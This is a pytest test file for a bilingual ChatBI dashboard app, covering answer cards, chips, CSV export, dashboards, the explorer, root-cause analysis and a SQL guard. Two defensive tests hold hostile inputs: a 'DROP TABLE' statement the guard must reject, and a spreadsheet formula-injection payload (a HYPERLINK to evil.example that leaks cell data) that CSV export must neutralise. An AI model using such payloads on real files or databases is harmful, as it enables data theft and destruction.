"""The pages' callback functions called directly, against the real sample warehouse."""

from __future__ import annotations

import threading

import pytest
from dash import dcc

from chatbi import Answer, ChatBI
from dashboards import create_app
from dashboards.app import render, shell
from dashboards.context import new_session_id
from dashboards.pages import ask, dashboards, explore, pages
from dashboards.pages._progress import job_result_cards
from semantic_layer import SemanticQuery

from .helpers import find, text_of

NOV = ("2025-11-01", "2025-11-30")


def _run(ctx, sid, query: SemanticQuery, question: str = "q", language: str = "en") -> str:
    """Put a real answer into a session's thread, as the Ask page does; returns its id."""
    answer = ctx.chatbi.run(query, question=question, language=language)
    assert answer.ok, answer.error
    return ctx.session(sid).add(answer)


# -- the shell ------------------------------------------------------------------------------
@pytest.mark.parametrize(("header", "lang"), [("zh-CN,zh;q=0.9", "zh"), ("en-GB,en;q=0.9", "en")])
def test_first_load_language_follows_the_browser(app, header, lang):
    with app.server.test_request_context("/", headers={"Accept-Language": header}):
        layout = shell(app.chatbi_context)
    store = next(c for c in find(layout, type_="Store") if c.id == "lang")
    assert store.data == lang and store.storage_type == "local"


def test_router_renders_each_page_in_both_languages(ctx):
    registry = pages()
    sid = new_session_id()
    for path, marker in [("/", "ask-input"), ("/dashboards", None), ("/explore", "explore-trend"),
                         ("/alerts", None)]:
        for lang in ("zh", "en"):
            bar, page = render(ctx, registry, path, "", lang, sid)
            assert ("问数" if lang == "zh" else "Ask") in text_of(bar)
            if marker:
                assert any(getattr(c, "id", None) == marker for c in find(page))
    _, missing = render(ctx, registry, "/no/such/page", "", "en", sid)
    assert text_of(missing) == "Page not found."


def test_cookie_session_is_set_once(app):
    client = app.server.test_client()
    first = client.get("/")
    cookie = first.headers.get("Set-Cookie", "")
    assert cookie.startswith("chatbi_sid=") and "HttpOnly" in cookie
    assert client.get("/").headers.get("Set-Cookie") is None  # the browser sent it back


# -- ask page -------------------------------------------------------------------------------
def test_new_user_sees_the_models_examples_in_the_page_language(ctx, sample_bi):
    chinese = [b.children for b in find(ask.layout(ctx, "zh", new_session_id(), {}), id_type="example")]
    english = [b.children for b in find(ask.layout(ctx, "en", new_session_id(), {}), id_type="example")]
    assert chinese and all(any("\u4e00" <= ch <= "\u9fff" for ch in q) for q in chinese)
    assert english and all(q.isascii() for q in english)
    assert sorted(chinese + english) == sorted(sample_bi.model.spec.examples)


def test_answer_card_has_chart_chips_data_sql_and_suggestions(ctx):
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV),
                     "revenue by province in November 2025")
    turns = ask.thread_turns(ctx, sid, "en")
    assert len(turns) == 1
    graph = find(turns, id_type="graph")[0]
    assert graph.figure is not None and len(graph.figure.data) >= 1
    chips = [c.id["key"] for c in find(turns, id_type="chip-x")]
    assert chips == ["metric:revenue", "dimension:province", "period"]
    table = find(turns, id_type="table")[0]
    assert len(table.data) == 11 and table.sort_action == "custom"  # sorted by values, not by shown text
    assert table.data[0] == {"province": "Guangdong", "revenue": "¥881M", "revenue__exact": "881,286,345.11"}
    by_value = ask.sorted_rows(ctx.chatbi, ctx.session(sid).get(answer_id), "en",
                               [{"column_id": "revenue", "direction": "asc"}])
    assert [r["province"] for r in by_value[:2]] == ["Shanxi", "Yunnan"]
    sql = find(turns, id_type="sql-edit")[0]
    assert sql.value.lstrip().upper().startswith(("SELECT", "WITH"))
    assert [b.id["answer"] for b in find(turns, id_type="pin")] == [answer_id]
    assert "Drill down to City" in text_of(turns)


def test_removing_a_chip_reruns_the_query(ctx):
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV))
    new = ask.remove_chip(ctx, sid, answer_id, "dimension:province", "en")
    history = ctx.session(sid).history()
    assert len(history) == 2
    rerun = history[-1][1]
    assert rerun.ok and rerun.query.dimensions == () and len(rerun.data) == 1
    assert "Revenue" in text_of(new)  # the bubble names what was run


def test_following_a_suggestion_runs_it(ctx):
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV))
    ask.follow_suggestion(ctx, sid, answer_id, 0, "en")  # drill down to city
    rerun = ctx.session(sid).history()[-1][1]
    assert rerun.ok and rerun.query.dimensions == ("city",) and len(rerun.data) == 33


def test_csv_download_has_every_row_in_the_page_language(ctx):
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["city"], time_range=NOV))
    payload = ask.csv_download(ctx, sid, answer_id, "en")
    lines = payload["content"].lstrip("\ufeff").strip().splitlines()
    assert lines[0] == "City,Revenue (¥)" and len(lines) == 34
    assert lines[1].startswith("Guangzhou,") and len(lines[1].split(",")[1].partition(".")[2]) <= 2  # no noise
    assert payload["filename"] == "revenue_by_city_2025-11.csv"
    zh = ask.csv_download(ctx, sid, answer_id, "zh")["content"].lstrip("\ufeff").splitlines()
    assert zh[0] == "城市,收入（元）" and zh[1].startswith("广州,")
    assert ask.csv_download(ctx, sid, "nope") is None


def test_clarification_options_are_buttons(ctx):
    from chatbi import ClarifyOption

    sid = new_session_id()
    answer = Answer(status="clarify", question="users?", text="Which users?", language="en",
                    clarification=(ClarifyOption("Active subscribers", "active subscribers in 2025"),
                                   ClarifyOption("New subscribers", "new subscribers in 2025")))
    ctx.session(sid).add(answer)
    buttons = find(ask.thread_turns(ctx, sid, "en"), id_type="clarify")
    assert [b.children for b in buttons] == ["Active subscribers", "New subscribers"]


def test_unexpected_failures_become_a_friendly_card(ctx):
    def broken(*_args):
        raise RuntimeError("engine exploded")

    cards = ask._safe(ctx, "zh", broken)
    assert "RuntimeError" in text_of(cards) and "抱歉" in text_of(cards)
    assert "Traceback" not in text_of(cards)
    assert ask.ask_question(ctx, new_session_id(), "   ", "en") == []  # the page prompts; nothing failed
    assert "expired" in text_of(ask.remove_chip(ctx, new_session_id(), "missing", "metric:revenue", "en"))


def test_engine_down_is_an_error_answer_and_the_app_keeps_working(sample_db_path, sample_model, tmp_path):
    bi = ChatBI(sample_model, sample_db_path)
    app = create_app(bi, app_db=tmp_path / "app.sqlite3")
    ctx = app.chatbi_context
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV))
    bi.engine.close()  # the warehouse goes away mid-session
    cards = ask.remove_chip(ctx, sid, answer_id, "dimension:province", "en")
    assert find(cards, cls="answer-error"), text_of(cards)
    assert "Traceback" not in text_of(cards)
    # the rest of the app still renders
    _, page = render(ctx, pages(), "/", "", "en", sid)
    assert len(find(page, cls="turn")) == 2


def test_pin_then_dashboard_reruns_rearranges_and_removes(ctx):
    sid = new_session_id()
    first = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV), "by province")
    second = _run(ctx, sid, SemanticQuery(metrics=["new_subscribers"], dimensions=["channel"]), "by channel")
    assert ask.pin_answer(ctx, sid, first, "Weekly review", "en") == "Pinned to \u201cWeekly review\u201d"
    assert ask.pin_answer(ctx, sid, second, "Weekly review", "zh") == "已固定到「Weekly review」"
    assert "expired" in ask.pin_answer(ctx, sid, "gone", "Weekly review", "en")
    board = ctx.store.dashboards(owner="")[0]
    page = dashboards.layout(ctx, "en", sid, {"rest": str(board.id)})
    titles = [c.children for c in find(page, cls="dash-card-title")]
    assert titles == ["by province", "by channel"]
    assert len(find(page, cls="dash-graph")) == 2  # re-run now, charts drawn
    cards = ctx.store.cards(board.id, owner="")
    dashboards.card_action(ctx, "dcard-down", cards[0].id)
    assert [c.title for c in ctx.store.cards(board.id, owner="")] == ["by channel", "by province"]
    dashboards.card_action(ctx, "dcard-x", cards[1].id)
    view = dashboards.board_cards(ctx, board.id, "en")
    assert [c.children for c in find(view, cls="dash-card-title")] == ["by province"]


def test_a_broken_pinned_card_does_not_break_the_board(ctx):
    card = ctx.store.add_card("b", owner="", title="old metric", query_json='{"metrics": ["no_such_metric"]}')
    answer = dashboards.run_card(ctx, card)
    assert answer.status == "error"
    assert find(dashboards.board_cards(ctx, card.dashboard_id, "en"), cls="dash-card")


def test_sessions_are_isolated_under_concurrent_requests(ctx):
    sids = [new_session_id() for _ in range(6)]
    seeds = {sid: _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV))
             for sid in sids}
    errors: list[BaseException] = []

    def work(sid: str) -> None:
        try:
            for key in ("dimension:province", "period"):
                ask.remove_chip(ctx, sid, seeds[sid], key, "en")
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(sid,)) for sid in sids]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert errors == []
    for sid in sids:
        answers = [a for _, a in ctx.session(sid).history()]
        assert len(answers) == 3 and all(a.ok for a in answers)
        assert answers[1].query.dimensions == () and answers[2].query.time_range is None


def _line(view):
    """The metric's own line in the explorer's trend (the band and anomaly markers are other traces)."""
    return next(trace for trace in view.trend.data if trace.mode in ("lines", "lines+markers")
                and trace.name not in ("Expected", "预期"))


def _members(view):
    """The raw members behind the drill bars (``customdata[0]``; labels may be English)."""
    return sorted(point[0] for point in view.drill.data[0].customdata)


# -- explorer -------------------------------------------------------------------------------
def test_explorer_drills_down_the_geography_tree(ctx):
    state = explore.default_state(ctx)
    assert state["tree"] == "geography" and state["grain"] == "month"
    view = explore.explore_view(ctx, state, "en")
    assert view.level == "region" and len(view.drill.data[0].x) == 5
    assert len(_line(view).x) == 24  # two years by month
    assert "Jan 2024 to Dec 2025" in view.drill.layout.title.text  # the bars say their period
    click = {"points": [{"customdata": ["华南", "¥20.7B"]}]}
    state = explore.next_state(ctx, state, "explore-drill", click)
    assert state["path"] == [["region", "华南"]]
    view = explore.explore_view(ctx, state, "en")
    assert view.level == "province" and _members(view) == ["广东", "福建"]
    assert [label for label, _ in view.crumbs] == ["All", "South China"]
    state = explore.next_state(ctx, state, "explore-drill", {"points": [{"customdata": ["广东", ""]}]})
    view = explore.explore_view(ctx, state, "zh")
    assert view.level == "city" and _members(view) == ["东莞", "广州", "深圳"]
    leaf = explore.next_state(ctx, state, "explore-drill", {"points": [{"customdata": ["广州", ""]}]})
    assert leaf["path"] == state["path"]  # the finest level does not drill further
    back = explore.next_state(ctx, state, {"type": "crumb", "index": 1}, None)
    assert back["path"] == [["region", "华南"]]


def test_explorer_grain_metric_and_trees(ctx):
    state = explore.next_state(ctx, None, "explore-grain", "day")
    view = explore.explore_view(ctx, state, "zh")
    assert len(_line(view).x) == 90  # the last 90 days
    state = explore.next_state(ctx, state, "explore-metric", "call_drop_rate")
    assert explore.trees_for(ctx, "call_drop_rate") == ["geography"]  # no product tree for network KPIs
    assert state["metric"] == "call_drop_rate"
    state = explore.next_state(ctx, explore.default_state(ctx), "explore-tree", "product")
    view = explore.explore_view(ctx, state, "en")
    assert view.level == "plan_type" and isinstance(_line(view).y[0], float | int)


def test_figures_in_cards_are_plotly(ctx):
    sid = new_session_id()
    _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["date.month"]))
    turns = ask.thread_turns(ctx, sid, "en")
    graph = find(turns, type_="Graph")[0]
    assert isinstance(graph, dcc.Graph) and graph.figure.data[0].type in {"scatter", "bar"}
    table = find(turns, id_type="table")[0]
    assert table.data[0]["date__month"] == "Jan 2024"  # buckets shown at their grain
    assert [c["name"] for c in table.columns] == ["Month", "Revenue (¥)", "Revenue (¥) · exact"]


# -- with the translator, the guard and the analysis ------------------------------------------
def test_typed_questions_follow_ups_and_clarifications(ctx):
    sid = new_session_id()
    turns = ask.ask_question(ctx, sid, "2025年11月各省收入", "zh")
    assert find(turns, id_type="graph") and "广东" in text_of(turns)
    # each chip remembers the words it came from (its tooltip)
    assert find(turns, cls="chip-metric")[0].title == "\u201c收入\u201d"
    assert find(turns, cls="chip-period")[0].title == "\u201c2025年11月\u201d"
    ask.ask_question(ctx, sid, "只看华东", "zh")
    follow = ctx.session(sid).history()[-1][1]
    assert follow.ok and follow.query.metrics == ("revenue",)
    assert follow.query.filters[0].values == ("华东",)  # the conversation kept the first question
    clarify_turns = ask.ask_question(ctx, sid, "users in 2025", "en")
    clarify_id = ctx.session(sid).history()[-1][0]
    options = find(clarify_turns, id_type="clarify")
    assert len(options) >= 2
    ask.pick_clarification(ctx, sid, clarify_id, 0, "en")
    picked = ctx.session(sid).history()[-1][1]
    assert picked.ok and picked.query.metrics and picked.query.time_range.start.year == 2025


@pytest.mark.parametrize(("question", "period", "ignored"), [
    ("老板要的，各省收入", "2025年12月（默认）", "老板要的"),
    ("FYI for the board deck, revenue by province", "(default)", "FYI for the board deck")])
def test_the_card_says_which_period_ran_and_what_was_ignored(ctx, question, period, ignored):
    lang = "zh" if question.startswith("老板") else "en"
    turns = ask.ask_question(ctx, new_session_id(), question, lang)
    chip = find(turns, cls="chip-period")[0]
    assert period in text_of(chip) and "2025" in text_of(chip)  # the question named no period: the default, said so
    assert [text_of(c) for c in find(turns, cls="chip-ignored")] == [ignored]
    all_data = ask.ask_question(ctx, new_session_id(), "收入月度趋势" if lang == "zh" else "monthly revenue", lang)
    assert text_of(find(all_data, cls="chip-period")[0]).startswith("全部数据" if lang == "zh" else "All data")


def test_typed_follow_up_builds_on_a_removed_chip(ctx):
    sid = new_session_id()
    ask.ask_question(ctx, sid, "revenue by province and channel in November 2025", "en")
    first_id, first = ctx.session(sid).history()[-1]
    assert first.query.dimensions == ("province", "channel")
    ask.remove_chip(ctx, sid, first_id, "dimension:channel", "en")
    ask.ask_question(ctx, sid, "only 5G", "en")
    follow = ctx.session(sid).history()[-1][1]
    assert follow.ok and follow.query.dimensions == ("province",)  # built on what the user saw last
    assert any(getattr(f, "values", None) == ("5G",) for f in follow.query.filters)


def test_why_button_runs_the_root_cause_analysis(ctx):
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], time_range=NOV, compare="previous_period",
                                             filters=[{"op": "in", "dimension": "province", "values": ["广东"]}]),
                     "广东11月收入环比", "zh")
    assert find(ask.thread_turns(ctx, sid, "zh"), id_type="why")
    started = ask.explain(ctx, sid, answer_id, "zh")  # off the request thread: a progress turn first
    assert find(started, cls="job-card")
    job = ctx.jobs.wait(find(started, id_type="job-tick")[0].id["job"])
    assert job.state == "done" and job.kind == "why"
    report = ctx.session(sid).history()[-1][1]
    assert report.report is not None and report.intent == "root_cause"
    turns = job_result_cards(ctx, job, "zh")  # what the page's next tick shows
    graph = find(turns, id_type="graph")[0]
    assert graph.figure.data[0].type == "waterfall"
    table = text_of(find(turns, cls="contributors"))
    # the table shows the waterfall's measure under its name, in 万/亿, and the text names its first row
    assert "比预期" in table and "占异常变化" in table and "5G × 线上" in table and "万元" in table
    assert report.report.drivers.top.label in report.text
    assert not find(turns, id_type="pin") and not find(turns, id_type="why")
    assert "expired" in text_of(ask.explain(ctx, sid, "gone", "en"))


def test_sql_editor_runs_through_the_guard(ctx):
    sid = new_session_id()
    answer_id = _run(ctx, sid, SemanticQuery(metrics=["revenue"], dimensions=["province"], time_range=NOV))
    sql = ctx.session(sid).get(answer_id).sql
    edited = ask.run_sql(ctx, sid, answer_id, sql.replace("ORDER BY", "ORDER BY 1, ") if "ORDER BY" in sql else sql, "en")
    custom = ctx.session(sid).history()[-1][1]
    assert custom.ok and not custom.governed and len(custom.data) == 11
    assert "Custom SQL" in text_of(edited)
    assert find(edited, id_type="sql-run")  # the user's own SQL stays editable
    rejected = ask.run_sql(ctx, sid, answer_id, "DROP TABLE fact_daily", "en")
    assert find(rejected, cls="answer-error") and "rejected" in text_of(rejected)
    assert ctx.chatbi.query(metrics=["revenue"]).ok  # nothing was dropped


def test_custom_sql_can_be_pinned_and_rerun(ctx):
    sid = new_session_id()
    ask.run_sql(ctx, sid, "none", "SELECT channel, SUM(revenue) AS revenue FROM fact_daily GROUP BY channel", "en")
    answer_id = ctx.session(sid).history()[-1][0]
    assert ask.pin_answer(ctx, sid, answer_id, "SQL board", "en").startswith("Pinned")
    card = ctx.store.cards(ctx.store.dashboards(owner="")[0].id, owner="")[0]
    assert card.query_json is None and card.sql.startswith("SELECT channel")
    rerun = dashboards.run_card(ctx, card)
    assert rerun.ok and len(rerun.data) == 3


def test_explorer_highlights_anomalies(ctx):
    state = explore.next_state(ctx, None, "explore-grain", "day")
    view = explore.explore_view(ctx, state, "en")
    names = [trace.name for trace in view.trend.data]
    assert "Expected range" in names and "Expected" in names  # the band from detect_anomalies
    assert view.note.endswith(("anomalies found", "anomaly found")) or view.note == "No anomalies found"
    assert view.note != "1 anomalies found"
    assert view.trend.layout.meta["metric"] == state["metric"]  # what the chart shows, readable by the page


def test_csv_download_neutralises_spreadsheet_formulas(ctx):
    """A cell or header that a spreadsheet would run as a formula is written as text."""
    import csv
    import io

    from dashboards.pages.ask_actions import run_sql

    sid = new_session_id()
    run_sql(ctx, sid, "", "SELECT '=HYPERLINK(\"http://evil.example/?\"&A1)' AS \"@leak\", '+1+1' AS p, "
            "'-2' AS m, '@SUM(A1)' AS a, city, -5 AS n FROM dim_region ORDER BY city_id LIMIT 1", "en")
    answer_id = ctx.session(sid).history()[-1][0]
    rows = list(csv.reader(io.StringIO(ask.csv_download(ctx, sid, answer_id)["content"].lstrip("\ufeff"))))
    assert rows[0] == ["'@leak", "p", "m", "a", "City", "n"]
    assert rows[1][:4] == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2", "'@SUM(A1)"]
    assert float(rows[1][5]) == -5  # numbers stay numbers (no apostrophe)
